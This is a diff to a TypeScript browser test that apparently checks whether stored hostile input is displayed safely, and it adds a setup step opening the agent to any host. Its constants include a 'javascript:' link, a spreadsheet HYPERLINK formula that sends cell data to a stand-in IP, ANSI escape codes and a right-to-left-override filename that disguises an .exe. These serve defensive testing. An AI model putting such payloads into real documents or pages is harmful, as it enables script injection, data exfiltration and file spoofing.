@@ -1,6 +1,8 @@
 import { readFile } from 'node:fs/promises'
 import type { Page } from 'playwright-core'
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
+import { askAt } from '../../indexer/ingest/testing.ts'
+import { LIMITS } from '../../schema/index.ts'
 import type { Chromium } from './chromium.ts'
 import { World } from './world.ts'
 
@@ -9,7 +11,8 @@ const LINK = 'javascript:window.owned=1'
 const FORMULA = '=HYPERLINK("http://198.51.100.1/"&A1,"x")'
 const ANSI = '\u001b[2J\u001b[31mred'
 const TURNED = 'invoice\u202efdp.exe'
-const LONG = 'x'.repeat(900_000)
+/** 900,000 characters, as long as each may be. */
+const LONG = Array.from({ length: 110 }, () => 'x'.repeat(LIMITS.keywordLength))
 
 let world: World
 let browser: Chromium
@@ -17,6 +20,14 @@ let page: Page
 let ids: string[]
 beforeAll(async () => {
   world = await World.start()
+  // An operator allows the agent any host, so that hostile names of hosts are stored, too.
+  const { token } = JSON.parse(await readFile(world.strict.file('local-token'), 'utf8'))
+  const allowed = await askAt(world.url, `/v1/agents/${world.agent.id}/hosts`, {
+    method: 'PUT',
+    headers: { authorization: `Bearer ${token}` },
+    json: { hosts: ['*'] },
+  })
+  expect(allowed.status).toBe(200)
   const everywhere = (text: string, ago: number) => ({
     ago,
     message: text,
